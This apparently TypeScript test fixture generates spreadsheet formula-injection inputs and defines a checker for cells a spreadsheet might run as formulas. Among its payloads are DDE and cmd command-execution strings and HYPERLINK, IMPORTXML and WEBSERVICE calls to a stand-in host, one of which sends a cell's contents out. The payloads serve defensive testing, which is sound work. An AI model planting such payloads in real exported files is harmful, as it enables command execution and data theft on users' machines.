/** Beginnings that some spreadsheet takes for a formula, also with something in front that it passes over. */
const starts = ["=", "+", "-", "@", "|", "%", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠"];
const fronts = ["", " ", "  ", "\t", "\u00a0", "\u200b", "\ufeff", "'", "''", '"'];
const tails = [
  "1+1",
  "cmd|'/c calc'!A0",
  'HYPERLINK("http://evil.example","y")',
  "SUM(A1:A9)",
  'DDE("cmd";"/c calc";"x")',
  'IMPORTXML("http://evil.example/"&A1,"//a")',
  'WEBSERVICE("http://evil.example")',
  "A1",
  "2^3",
  '1+1";=1+1',
  "1+1,=1+1",
  "1\n=1+1",
];

export const formulas: readonly string[] = fronts.flatMap((front) =>
  starts.flatMap((start) => tails.map((tail) => front + start + tail)),
);

/**
 * Whether a spreadsheet may take a cell for more than text, judged apart from the code that guards against it.
 * A number with its sign is only a number.
 */
export const mayRun = (cell: string): boolean => {
  const seen = cell
    // biome-ignore lint/suspicious/noControlCharactersInRegex: spreadsheets pass over them.
    .replace(/^[\s\u0000-\u0020\u00a0\u00ad\u200b-\u200f\u2028-\u202e\u2060\ufeff]+/u, "")
    .normalize("NFKC");
  return (/^[=+\-@|%]/.test(seen) && !/^[+-]?\d+(\.\d+)?$/.test(cell)) || /^[\t\r\n]/.test(cell);
};
